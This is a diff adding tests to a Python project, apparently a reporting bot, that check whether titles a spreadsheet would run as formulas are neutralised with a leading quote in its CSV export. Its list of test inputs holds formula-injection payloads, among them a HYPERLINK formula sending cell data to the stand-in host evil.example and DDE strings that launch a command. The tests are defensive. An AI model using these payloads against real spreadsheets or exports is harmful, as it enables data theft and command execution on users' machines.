@@ -125,3 +125,51 @@ def test_bad_input_is_one_line_and_exit_2(
     assert result.returncode == 2
     assert result.stdout == b""
     assert result.stderr.count(b"\n") == 1 and message in result.stderr.decode()
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+def test_spreadsheet_formula_injection_is_neutralised_in_the_csv_register(bot: LocalBot) -> None:
+    """A reporter's title that a spreadsheet would run as a formula is exported as text, with
+    OWASP's leading ``'``; the JSON register keeps it exactly as typed."""
+    for number, title in enumerate(FORMULAS, start=1):
+        assert report(bot, title=title).status == 200
+        wait_for(lambda n=number: case_row(bot, n).card_ts, what=f"card {number}")
+    settle(bot)
+
+    result = run_export(bot, "--all", "--format", "csv")
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout.decode())))
+    assert [r["title"] for r in rows] == ["'" + title for title in FORMULAS]
+    for row in rows:
+        assert not any(str(cell).startswith(register.FORMULA_STARTS) for cell in row.values())
+
+    result = run_export(bot, "--all", "--format", "json")
+    assert [c["title"] for c in json.loads(result.stdout)["cases"]] == FORMULAS
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\tTAB", "'\tTAB"),
+        ("\rCR", "'\rCR"),
+        ("plain", "plain"),
+        ("a=b", "a=b"),
+        (3, 3),
+        (None, ""),
+    ],
+)
+def test_each_cell_a_spreadsheet_would_run_gets_a_leading_quote(
+    value: object, cell: object
+) -> None:
+    assert register.spreadsheet_cell(value) == cell
